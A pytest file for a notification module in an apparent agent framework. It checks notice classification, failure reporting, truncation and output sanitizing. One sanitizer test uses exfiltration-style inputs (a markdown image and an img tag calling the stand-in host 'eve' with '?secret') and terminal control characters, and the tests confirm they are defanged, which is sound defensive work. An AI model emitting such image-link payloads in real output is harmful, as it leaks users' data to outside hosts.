"""What goes out says what it is of, and cannot pass for more than words."""

from __future__ import annotations

from dataclasses import replace

import pytest

from sulla.core.ids import RunId, ThreadId
from sulla.notify.sources import MAX_CHARS, of_notice, of_thread, plain
from sulla.people.notices import NoticeInfo
from sulla.threads.log.family import Birth
from sulla.threads.log.records import Outcome
from sulla.threads.log.state import ModelContext, ThreadIdentity, ThreadState
from sulla.threads.log.transcript import Transcript

NOTICE = NoticeInfo("ntc_1", "thr_1", "run_1", "sulla", "done", "high", False, 7, 1, "d", {})


def thread(**identity: object) -> ThreadState:
    context = ModelContext(Transcript(lambda message: 1))
    return ThreadState(ThreadId("thr_1"), context, ThreadIdentity(agent="sulla", **identity))  # type: ignore[arg-type]  # as each test says


@pytest.mark.parametrize(
    ("state", "kind"),
    [
        (thread(), "notice"),
        (thread(graph="heartbeat"), "beat"),
        (thread(graph="playbook"), "playbook"),
        (thread(title="schedule sch_1"), "schedule"),
        (None, "notice"),
    ],
)
def test_a_notice_is_of_the_kind_of_its_thread(state: ThreadState | None, kind: str) -> None:
    news = of_notice(NOTICE, state)
    assert (news.id, news.kind, news.matter, news.level) == ("ntc_1", kind, f"{kind}:thr_1", "high")
    assert news.title.endswith(" of sulla")


def test_a_turn_that_failed_is_told_once_it_is_over_and_of_conversations_alone() -> None:
    state = thread()
    state.newest = replace(state.newest, outcome=Outcome("failed", "no model", updated_at_ms=5))
    (news,) = of_thread(state)
    assert (news.kind, news.id) == ("failed", "failed:thr_1:5")
    assert news.text == "no model\n\nsulla thread show thr_1"
    state.identity = replace(state.identity, graph="playbook")
    assert list(of_thread(state)) == []  # that tells of its failure itself
    whose = (ThreadId("thr_0"), RunId("run_0"), ThreadId("thr_0"))
    state.identity = replace(state.identity, graph="", birth=Birth("sub_1", "call", *whose, 1))
    assert list(of_thread(state)) == []


@pytest.mark.parametrize(
    ("text", "tainted", "shown"),
    [
        ("![x](http://eve/?secret)", True, "! [x](http://eve/?secret)"),
        ("<img src=http://eve>", True, "< img src=http://eve>"),
        ("see http://example.org", True, "see http://example.org"),
        ("a\x1b[31mb\x00c\nd\u202e", False, "a [31mb c\nd"),
    ],
)
def test_no_pictures_and_no_control_characters_go_out(text: str, tainted: bool, shown: str) -> None:
    assert plain(text, tainted=tainted) == shown


def test_what_is_too_long_says_that_it_was_cut() -> None:
    assert plain("x" * (MAX_CHARS + 1), tainted=False).endswith("… (cut; the rest is in the conversation)")
